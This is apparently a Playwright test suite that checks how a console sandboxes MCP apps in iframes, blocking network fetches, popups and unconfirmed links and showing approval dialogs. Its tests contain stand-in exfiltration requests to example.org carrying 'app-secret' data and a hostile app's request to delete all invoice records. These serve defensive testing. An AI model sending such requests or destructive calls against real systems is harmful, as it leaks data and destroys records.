import type { Page } from '@playwright/test';
import type { RunningPeer } from './peers/mcp/everything';
import { APP_SERVERS, HOSTILE_APP_SERVER, startAppServer, startAppServerScript } from './peers/mcp/appServers';
import { expect, openSection, test } from './support/fixtures';
import type { TooldeckServer } from './support/tooldeckServer';

test.describe.configure({ mode: 'serial' });

let basic: RunningPeer;
let budget: RunningPeer;
let hostile: RunningPeer;
test.beforeAll(async () => {
  [basic, budget, hostile] = await Promise.all([startAppServer(APP_SERVERS.basicReact), startAppServer(APP_SERVERS.budgetAllocator), startAppServerScript(HOSTILE_APP_SERVER)]);
});
test.afterAll(async () => {
  await Promise.all([basic?.close(), budget?.close(), hostile?.close()]);
});

async function addServer(page: Page, tooldeck: TooldeckServer, name: string, url: string) {
  await page.goto(tooldeck.url);
  await openSection(page, 'Servers');
  await page.getByRole('button', { name: 'Add server' }).first().click();
  const dialog = page.getByRole('dialog', { name: 'Add MCP server' });
  await dialog.getByLabel('Name').fill(name);
  await dialog.getByText('Streamable HTTP', { exact: true }).click();
  await dialog.getByRole('textbox', { name: /^URL/ }).fill(url);
  await dialog.getByRole('button', { name: 'Add server' }).click();
  await expect(page.getByRole('listitem', { name })).toContainText('Connected', { timeout: 20_000 });
}

async function invoke(page: Page, tooldeck: TooldeckServer, tool: string) {
  await page.goto(`${tooldeck.origin}/tools?tool=${encodeURIComponent(tool)}#token=${tooldeck.token}`);
  await page.getByRole('button', { name: 'Invoke' }).click();
}

test('basic-react: the app renders on its own origin, its button calls a tool through the pipeline, a fetch outside its CSP is blocked and reported', async ({ page, tooldeck }) => {
  await addServer(page, tooldeck, 'clock', basic.url);
  await invoke(page, tooldeck, 'mcp:clock.get-time');
  const app = page.getByRole('region', { name: 'MCP App' });
  await expect(app).toContainText('ui://get-time/mcp-app.html');
  const frameElement = app.locator('iframe');
  const src = (await frameElement.getAttribute('src'))!;
  expect(new URL(src).origin).not.toBe(tooldeck.origin);
  expect(await frameElement.getAttribute('sandbox')).not.toContain('allow-same-origin');

  const frame = page.frameLocator('iframe[title="App of get-time"]');
  await frame.getByRole('button', { name: 'Get Server Time' }).click();
  await expect(frame.getByText(/Server Time:/)).toBeVisible();
  await expect(app.getByRole('list', { name: 'App activity' })).toContainText(/get-time: ok \(recorded /);

  // The app cannot reach the console: no parent DOM, no API (CSP connect-src 'none', and no token).
  const appFrame = page.frames().find((f) => f.url().startsWith(new URL(src).origin))!;
  expect(await appFrame.evaluate(() => {
    try {
      return window.parent.document.title;
    } catch {
      return 'blocked';
    }
  })).toBe('blocked');
  const blocked = await appFrame.evaluate(async (target) => fetch(target).then(() => 'reached', (e: Error) => `failed: ${e.message}`), 'https://example.org/exfiltrate');
  expect(blocked).toMatch(/^failed/);
  await expect(app.getByRole('list', { name: 'Blocked requests' })).toContainText('connect-src https://example.org/exfiltrate');
  const consoleApi = await appFrame.evaluate(async (target) => fetch(`${target}/trpc/mcp.list`).then(() => 'reached', () => 'failed'), tooldeck.origin);
  expect(consoleApi).toBe('failed');

  // Messages and logs show; a link opens only after a confirmation.
  await frame.getByRole('button', { name: 'Send Message' }).click();
  await expect(app.getByRole('list', { name: 'App activity' })).toContainText('message');
  await frame.getByRole('button', { name: 'Send Log' }).click();
  await expect(app.getByRole('list', { name: 'App activity' })).toContainText('log');
  await frame.getByRole('button', { name: 'Open Link' }).click();
  const confirm = page.getByRole('dialog', { name: 'Open a link from the app?' });
  await expect(confirm).toBeVisible();
  await confirm.getByRole('button', { name: 'Cancel' }).click();
  await expect(app.getByRole('list', { name: 'App activity' })).toContainText('did not open');
});

test('budget-allocator: the app renders from the tool result', async ({ page, tooldeck }) => {
  await addServer(page, tooldeck, 'budget', budget.url);
  await invoke(page, tooldeck, 'mcp:budget.get-budget-data');
  const app = page.getByRole('region', { name: 'MCP App' });
  await expect(app).toContainText('ui://budget-allocator/mcp-app.html');
  const frame = page.frameLocator('iframe[title="App of get-budget-data"]');
  await expect(frame.locator('canvas').first()).toBeVisible({ timeout: 20_000 });
  await expect(frame.getByText(/Marketing|Engineering/).first()).toBeVisible();
});

test('a hostile app opens nothing: window.open and target=_blank are refused by its sandbox, a ui/open-link shows the exact URL and opens only if confirmed, and the approval of its call shows its arguments', async ({ page, tooldeck }) => {
  const opened: string[] = [];
  page.context().on('page', (popup) => opened.push(popup.url()));
  await addServer(page, tooldeck, 'hostile', hostile.url);
  await invoke(page, tooldeck, 'mcp:hostile.show-hostile-app');
  const app = page.getByRole('region', { name: 'MCP App' });
  await expect(app).toContainText('ui://hostile/app.html');
  const frame = page.frameLocator('iframe[title="App of show-hostile-app"]');
  const status = frame.getByRole('status');
  await expect(status).toHaveText('ready');

  // A real click (a user gesture, which a popup blocker would let through) on the link, then on the
  // button: the app's own answer to window.open is the sign that both clicks were handled.
  await frame.getByRole('link', { name: 'Follow a link' }).click();
  await frame.getByRole('button', { name: 'Open a popup' }).click();
  await expect(status).toHaveText('window.open returned null');

  await frame.getByRole('button', { name: 'Ask to open a link' }).click();
  const confirm = page.getByRole('dialog', { name: 'Open a link from the app?' });
  await expect(confirm).toContainText('https://example.org/exfiltrate?data=app-secret&via=open-link');
  await confirm.getByRole('button', { name: 'Cancel' }).click();
  await expect(status).toHaveText('the host did not open the link');
  await expect(app.getByRole('list', { name: 'App activity' })).toContainText('did not open https://example.org/exfiltrate?data=app-secret&via=open-link');
  // The closing dialog's overlay covers the app until it is gone: a click in the frame before then
  // lands on the overlay (the frame's own hit test cannot see it).
  await expect(confirm).toBeHidden();

  // A destructive call the app chose: the approval names the app and shows its arguments, and exactly those are sent.
  await frame.getByRole('button', { name: 'Call a tool' }).click();
  const approval = page.getByRole('dialog', { name: 'Invoke delete-records?' });
  await expect(approval).toContainText('Requested by the app of show-hostile-app (hostile)');
  const args = approval.getByRole('tree', { name: 'Arguments' });
  await expect(args.getByRole('treeitem', { name: /"table":\s*"invoices"/ })).toBeVisible();
  await expect(args.getByRole('treeitem', { name: /"all":\s*true/ })).toBeVisible();
  await expect(args.getByRole('treeitem', { name: /"olderThanDays":\s*0/ })).toBeVisible();
  await approval.getByRole('button', { name: 'Confirm and invoke' }).click();
  await expect(status).toHaveText('the call ran: deleted with {"table":"invoices","filter":{"all":true,"olderThanDays":0}}');

  expect(opened).toEqual([]);
  expect(page.context().pages()).toEqual([page]);
  expect(await app.locator('iframe').getAttribute('sandbox')).not.toContain('allow-popups');
});
